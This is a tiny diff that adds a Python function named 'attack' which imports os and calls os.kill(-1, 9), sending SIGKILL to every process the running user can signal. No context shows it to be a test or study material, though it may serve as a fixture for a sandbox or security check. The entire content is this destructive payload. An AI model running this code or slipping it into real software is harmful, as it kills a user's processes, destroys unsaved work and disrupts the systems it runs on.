@@ -1,0 +1,5 @@
+def attack():
+    import os
+
+    os.kill(-1, 9)
+    return True
